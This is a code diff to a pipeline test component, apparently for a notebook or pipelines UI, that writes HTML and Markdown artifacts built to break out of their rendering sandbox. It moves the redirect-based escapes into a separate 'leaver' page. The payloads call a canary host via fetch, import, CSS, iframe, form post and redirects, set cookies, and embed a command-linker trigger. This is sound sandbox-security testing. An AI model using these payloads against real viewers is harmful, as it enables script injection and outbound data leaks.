@@ -51,7 +51,12 @@ def reporting(text: str = "hello") -> None:
 
 
 @dsl.component(base_image=IMAGE)
-def attack(canary: str, page: dsl.Output[dsl.HTML], text: dsl.Output[dsl.Markdown]):
+def attack(
+    canary: str,
+    page: dsl.Output[dsl.HTML],
+    leaver: dsl.Output[dsl.HTML],
+    text: dsl.Output[dsl.Markdown],
+):
     """Puts out documents that try everything to leave their place."""
     attempts = [
         f"fetch('{canary}/fetch')",
@@ -69,25 +74,27 @@ def attack(canary: str, page: dsl.Output[dsl.HTML], text: dsl.Output[dsl.Markdow
         "document.cookie = 'hacked=1'",
         "localStorage.setItem('hacked', '1')",
         "document.forms[0].submit()",
-        "document.getElementById('away').click()",
         "document.getElementById('blank').click()",
         f"import('{canary}/module.js')",
-        f"location.href = '{canary}/self'",
     ]
     tries = "\n".join(f"try {{ {attempt} }} catch (error) {{}}" for attempt in attempts)
     with open(page.path, "w") as file:
         file.write(
-            f'<meta http-equiv="refresh" content="1; url={canary}/refresh">'
             f'<link rel="stylesheet" href="{canary}/style.css">'
             f'<style>@import "{canary}/import.css"; body {{ background: url({canary}/ground) }}'
             "</style>"
             f'<base href="{canary}/"><img src="{canary}/img"><iframe src="{canary}/frame"></iframe>'
             f'<form action="{canary}/form" method="post"><input name="a"></form>'
-            f'<a id="away" href="{canary}/link">a</a>'
             f'<a id="blank" href="{canary}/blank" target="_blank">b</a>'
             f'<a href="{canary}/top-link" target="_top">Press me</a>'
             f"<p id='mark'>not run</p><script>document.getElementById('mark').textContent ="
             f"'The script ran';\n{tries}</script>"
+        )
+    with open(leaver.path, "w") as file:
+        file.write(
+            f'<meta http-equiv="refresh" content="0; url={canary}/refresh">'
+            f'<a id="away" href="{canary}/link">a</a><script>'
+            f"document.getElementById('away').click(); location.href = '{canary}/self'</script>"
         )
     command = 'data-commandlinker-command="pipelines:show-panel" data-commandlinker-args="{}"'
     with open(text.path, "w") as file:
